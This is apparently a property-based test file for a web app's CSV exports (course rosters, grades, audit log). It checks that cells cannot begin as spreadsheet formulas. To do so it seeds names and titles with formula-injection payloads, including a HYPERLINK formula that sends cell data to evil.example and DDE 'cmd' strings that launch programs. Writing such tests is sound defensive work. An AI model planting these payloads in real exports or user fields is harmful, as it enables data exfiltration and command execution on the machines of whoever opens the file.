import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it, test } from 'vitest';
import { endpoints } from '../../src/app.ts';
import { readCsv, toCsv } from '../../src/lib/csv.ts';
import { anAssessment, aUser, enrolIn, type Somebody } from '../factories.ts';
import { makeCourse } from '../items/make.ts';

/* Tables leave the house and are opened in spreadsheets, which take a cell for a formula by how it begins (OWASP "CSV Injection"). */

const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', ' =', '\n=', '\u0000@', ' -', '\u00a0+'];
const isFormula = (cell: string) => /^[\s\p{Cc}]*[=+\-@＝＋－＠]|^[\t\r]/u.test(cell);
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '').trimEnd()).data;

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.tuple(fc.constantFrom(...STARTS), fc.string()).map(([start, rest]) => start + rest),
  fc.constantFrom('=HYPERLINK("http://evil.example","press")', "@SUM(1+1)*cmd|' /C calc'!A0", '"=1"', "'=1", ''),
);
const table = fc.array(fc.tuple(text, text, fc.oneof(text, fc.integer())), { minLength: 1, maxLength: 8 });

describe('a table', () => {
  it('has no cell that begins as a formula, whatever its texts are, and loses nothing', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const [header, ...read] = Papa.parse<string[]>(toCsv(['a', 'b', 'c'], rows).slice(1, -2)).data;
        expect(header).toEqual(['a', 'b', 'c']);
        expect(read).toHaveLength(rows.length);
        read.forEach((cells, row) =>
          cells.forEach((cell, column) => {
            const given = rows[row]?.[column];
            if (typeof given === 'number') expect(cell).toBe(String(given));
            else expect([isFormula(cell), isFormula(given ?? '') ? cell.slice(1) : cell]).toEqual([false, given]);
          }),
        );
      }),
    );
  });

  it('is read again as it was written', () => {
    const cell = fc.stringMatching(/^[a-z0-9 ,;"'\n]{1,20}$/).filter((one) => one.trim() === one && one !== '');
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 8 }), (rows) => {
        const again = readCsv(toCsv(['One', 'Two'], rows));
        expect('rows' in again && again.rows.map(({ cells }) => [cells.one, cells.two])).toEqual(rows);
      }),
    );
  });
});

const formula = '=HYPERLINK("http://evil.example/?"&A1,"press")';

/** A course whose people, papers and changes are called like formulas. */
async function aCourse() {
  const teacher = await aUser('instructor', { name: "-2+3+cmd|' /C calc'!A0" });
  const { courseId, courseKey } = await makeCourse(teacher.call());
  for (const name of [formula, '@SUM(A1:A9)', '\t=1+1', '+1'])
    await enrolIn(courseId, await aUser('student', { name }));
  await anAssessment(teacher, { title: formula, courseKey });
  const path = `/courses/${encodeURIComponent(courseKey)}`;
  expect((await teacher.ask('PATCH', path, { title: formula })).status).toBe(200);
  return { teacher, path };
}

const tables: Record<string, () => Promise<[who: Somebody, path: string, wanted: string]>> = {
  'GET /api/v1/courses/{courseKey}/roster.csv': async () => {
    const { teacher, path } = await aCourse();
    return [teacher, `${path}/roster.csv`, formula];
  },
  'GET /api/v1/courses/{courseKey}/grades.csv': async () => {
    const { teacher, path } = await aCourse();
    return [teacher, `${path}/grades.csv`, formula];
  },
  'GET /api/v1/audit.csv': async () => {
    const admin = await aUser('admin', { name: formula });
    expect((await admin.ask('POST', `/users/${(await aUser()).id}/block`)).status).toBe(200);
    return [admin, '/audit.csv', formula];
  },
};

describe('over HTTP', () => {
  it('every table is looked at here', () => {
    const served = endpoints.filter(({ path }) => path.endsWith('.csv'));
    expect(served.map(({ method, path }) => `${method.toUpperCase()} ${path}`).sort()).toEqual(
      Object.keys(tables).sort(),
    );
  });

  test.each(Object.entries(tables))('%s has no formula in it, and is a file for whoever asked', async (_name, make) => {
    const [who, path, wanted] = await make();
    const { status, headers, text: csv } = await who.ask('GET', path);
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+\.csv"/);
    expect(headers.get('cache-control')).toBe('private, no-store');
    const cells = cellsOf(csv).flat();
    expect(
      cells.some((cell) => cell.includes(wanted)),
      'what is looked for is there',
    ).toBe(true);
    expect(cells.filter(isFormula)).toEqual([]);
  });
});
